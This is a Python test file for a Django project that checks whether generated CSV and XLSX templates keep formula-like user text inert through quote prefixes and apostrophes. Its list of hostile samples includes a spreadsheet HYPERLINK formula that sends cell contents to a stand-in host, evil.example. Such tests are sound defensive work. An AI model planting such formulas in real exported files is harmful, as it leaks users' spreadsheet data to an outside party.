"""Every spreadsheet or CSV the platform writes keeps user text as text: nothing runs as a formula.

Issue 8: names starting with ``=``, ``+``, ``-`` or ``@`` are stored as typed, harmless until a file the
platform writes puts them into a spreadsheet program. Checked by reading the written files back.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from sanke.core.tabular_import import Column, ImportKind, template_csv, template_workbook

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def hostile_kind() -> ImportKind:
    columns = tuple(
        Column(f"c{i}", text, hint=text)  # type: ignore[arg-type]  (plain text: gettext rewrites a CR)
        for i, text in enumerate(HOSTILE)
    )
    return ImportKind("hostile", gettext_lazy("Hostile"), columns, lambda rows, user, errors: None)


def test_the_xlsx_template_writes_formula_like_text_as_text():
    buffer = io.BytesIO()
    template_workbook(hostile_kind()).save(buffer)
    buffer.seek(0)

    workbook = load_workbook(buffer)  # not data_only: a formula would come back as a formula

    header = list(workbook.worksheets[0].iter_rows(min_row=1, max_row=1))[0]
    hints = [row[2] for row in workbook.worksheets[1].iter_rows(min_row=2, max_row=len(HOSTILE) + 1)]
    for cell, text in [*zip(header, HOSTILE, strict=True), *zip(hints, HOSTILE, strict=True)]:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.quotePrefix, cell.coordinate
        assert cell.value == text.replace("\r", "\n"), cell.value  # XML reads a CR back as LF


def test_the_csv_template_prefixes_formula_like_text_with_an_apostrophe():
    (header,) = list(csv.reader(io.StringIO(template_csv(hostile_kind()).lstrip("\ufeff"))))

    assert header == [f"'{text}" for text in HOSTILE]


@pytest.mark.parametrize("text", ["王芳", "(1)班", "2133012701", "a=b", ""])
def test_ordinary_text_is_written_unchanged(text):
    from sanke.core.spreadsheets import csv_safe

    assert csv_safe(text) == text
